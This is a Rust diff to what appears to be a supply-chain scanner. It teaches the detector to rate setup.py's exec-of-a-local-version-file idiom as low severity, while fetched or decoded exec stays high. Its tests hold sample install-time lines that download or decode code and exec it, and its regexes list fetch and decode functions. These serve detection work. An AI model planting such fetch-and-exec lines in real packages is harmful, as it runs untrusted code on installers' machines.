@@ -51,6 +51,69 @@ fn literal_argument(src: &Source<'_>, after_paren: usize) -> bool {
     }
 }
 
+/// Anything in an exec argument that fetches, decodes or unpacks: never a plain file read.
+static NOT_LOCAL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)urlopen|urlretrieve|requests|httpx|urllib|http|socket|getresponse|b64|base64|b32|b85|a85|decode|decompress|zlib|lzma|bz2|gzip|marshal|pickle|unhexlify|fromhex|codecs|rot13|join|\+|%|\[|input\(|stdin|environ|getenv|argv")
+        .expect("not local")
+});
+
+static FETCHES: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\b(?:urlopen|urlretrieve|requests\.(?:get|request|Session)|httpx\.(?:get|stream|Client)|urllib3\.PoolManager|HTTPS?Connection|wget\.download|socket\.create_connection)\s*\(")
+        .expect("fetches")
+});
+static STRING: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#""[^"\n]*"|'[^'\n]*'"#).expect("string"));
+
+/// The argument list of a call whose `(` ends at `after_paren`, up to the matching `)`.
+fn argument_text(text: &str, after_paren: usize) -> Option<&str> {
+    let mut depth = 1usize;
+    for (i, ch) in text[after_paren..].char_indices().take(400) {
+        match ch {
+            '(' => depth += 1,
+            ')' => {
+                depth -= 1;
+                if depth == 0 {
+                    return Some(&text[after_paren..after_paren + i]);
+                }
+            }
+            _ => {}
+        }
+    }
+    None
+}
+
+/// `exec(open("pkg/_version.py").read())`, `exec(fp.read(), ns)` with `fp` from
+/// `open(…)`, `exec((root / "pkg" / "version.py").read_text())`: the classic setup.py
+/// version-reading idiom runs a file that ships in the package, readable by anyone.
+fn exec_of_local_file(text: &str, after_paren: usize) -> bool {
+    let Some(args) = argument_text(text, after_paren) else {
+        return false;
+    };
+    // A module that also downloads may be running what it saved: no idiom then.
+    if FETCHES.is_match(text) {
+        return false;
+    }
+    let first = args.split(',').next().unwrap_or("").trim();
+    // Judge the code, not path names in it (`"src/websockets/version.py"`).
+    if NOT_LOCAL.is_match(&STRING.replace_all(first, "''")) {
+        return false;
+    }
+    if first.contains(".read_text(") || (first.contains("open(") && first.contains(".read()")) {
+        return true;
+    }
+    // `name.read()`: `name` must be a file opened in this module.
+    let Some(name) = first.strip_suffix(".read()") else {
+        return false;
+    };
+    if name.is_empty() || !name.chars().all(|c| c.is_alphanumeric() || c == '_') {
+        return false;
+    }
+    let opened = format!(
+        r"(?:with\s+(?:io\.|codecs\.)?open\s*\([^
+]*\)\s+as\s+{name}\s*:|(?-u:){name}\s*=\s*(?:io\.)?open\s*\()"
+    );
+    Regex::new(&opened).is_ok_and(|re| re.is_match(text))
+}
+
 pub struct DynamicCode;
 
 impl Detector for DynamicCode {
@@ -82,6 +145,14 @@ impl Detector for DynamicCode {
                 continue;
             }
             n += 1;
+            if name.as_str() == "exec" && c.name("py2").is_none() && exec_of_local_file(file.text, whole.end()) {
+                let ind = format!("{}(local file)", name.as_str());
+                hits.push(
+                    &META,
+                    Hit { severity: Some(Severity::Low), evidence: pysrc::evidence(file, name.start(), ind) },
+                );
+                continue;
+            }
             hits.push(&META, Hit { severity: sev, evidence: pysrc::evidence(file, name.start(), name.as_str()) });
         }
     }
@@ -130,6 +201,69 @@ mod tests {
                 ("definition", "pkg/a.py", Runtime, "def eval(self, x):\n    pass\n", None),
                 ("in docstring", "pkg/a.py", Runtime, "\"\"\"Never exec(code).\"\"\"\n", None),
                 ("tests", "pkg/tests/test_a.py", Runtime, "exec(code)\n", None),
+                (
+                    "setup.py version idiom: open().read()",
+                    "setup.py",
+                    InstallTime,
+                    "exec(open(\"h11/_version.py\").read())\n",
+                    Some((1, "exec(local file)", Low)),
+                ),
+                (
+                    "setup.py version idiom: with open as fp",
+                    "setup.py",
+                    InstallTime,
+                    "version = {}\nwith open(os.path.join(here, 'pkg', 'version.py')) as fp:\n    exec(fp.read(), version)\n",
+                    Some((3, "exec(local file)", Low)),
+                ),
+                (
+                    "setup.py version idiom: globals",
+                    "setup.py",
+                    InstallTime,
+                    "with open(VERSION_PY) as version_file:\n    exec(version_file.read(), file_globals)  # pylint:disable=exec-used\n",
+                    Some((2, "exec(local file)", Low)),
+                ),
+                (
+                    "setup.py version idiom: pathlib",
+                    "setup.py",
+                    InstallTime,
+                    "exec((root_dir / \"src\" / \"websockets\" / \"version.py\").read_text(encoding=\"utf-8\"))\n",
+                    Some((1, "exec(local file)", Low)),
+                ),
+                (
+                    "exec of a fetched response in setup.py",
+                    "setup.py",
+                    InstallTime,
+                    "r = urlopen(u)\nexec(r.read())\n",
+                    Some((2, "exec", High)),
+                ),
+                (
+                    "version idiom next to a urllib3 requirement",
+                    "setup.py",
+                    InstallTime,
+                    "extras = [\"urllib3 >= 1.26\", \"requests >= 2\"]\nwith open(p) as fp:\n    exec(fp.read(), version)\n",
+                    Some((3, "exec(local file)", Low)),
+                ),
+                (
+                    "exec of a saved download in setup.py",
+                    "setup.py",
+                    InstallTime,
+                    "urlretrieve('https://example.org/p.py', 'p.py')\nexec(open('p.py').read())\n",
+                    Some((2, "exec", High)),
+                ),
+                (
+                    "exec of urlopen().read() in setup.py",
+                    "setup.py",
+                    InstallTime,
+                    "exec(urlopen(u).read())\n",
+                    Some((1, "exec", High)),
+                ),
+                (
+                    "exec of a decoded file in setup.py",
+                    "setup.py",
+                    InstallTime,
+                    "exec(base64.b64decode(open('p.bin').read()))\n",
+                    Some((1, "exec", High)),
+                ),
             ],
         );
     }
